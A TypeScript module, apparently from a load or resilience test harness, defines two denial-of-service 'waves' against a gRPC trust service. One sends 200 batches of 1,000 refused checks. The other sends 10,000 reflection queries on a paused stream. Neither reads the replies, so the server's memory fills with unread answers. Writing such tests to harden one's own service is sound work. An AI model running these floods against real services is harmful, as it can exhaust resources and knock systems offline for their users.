/** Small requests with large replies, none of which is read. */
import { trustV1 } from "@sigil/client";
import type { Attack } from "../attack.ts";
import { call, frame, open, pause } from "../wire.ts";

const { TrustServiceService: Trust, BatchCheckRequest } = trustV1;

const holdMs = 4000;
const batches = 200;
const batch = frame(
  BatchCheckRequest.encode(
    BatchCheckRequest.fromPartial({
      // Each item is refused, so that none costs a decision.
      checks: Array.from({ length: 1000 }, () => ({ action: "not an action", target: "a" })),
    }),
  ).finish(),
);

const batchChecks: Attack["wave"] = async ({ target }) => {
  const session = await open(target);
  for (let begun = 0; begun < batches; begun += 1) call(session, Trust.batchCheck.path).end(batch);
  await pause(holdMs);
  session.destroy();
  return `${batches} batches of 1,000 questions, nothing read`;
};

const reflectionPath = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";
/** `file_containing_symbol`, field 4. */
const symbol = Buffer.from("sigil.canon.v1.CanonService");
const question = frame(Buffer.concat([Buffer.from([0x22, symbol.length]), symbol]));
const questions = 10_000;

const reflection: Attack["wave"] = async ({ target }) => {
  const session = await open(target);
  const stream = call(session, reflectionPath);
  stream.pause();
  for (let sent = 0; sent < questions; sent += 1) stream.write(question);
  await pause(holdMs);
  session.destroy();
  return `${questions} questions of ${question.length} bytes, nothing read`;
};

export const unreadAnswers: readonly Attack[] = [
  { name: "batch-unread", what: "200 BatchChecks of 1,000 questions that nobody reads", wave: batchChecks },
  {
    name: "reflection-unread",
    what: "10,000 reflection questions on one stream, nothing read",
    wave: reflection,
  },
];
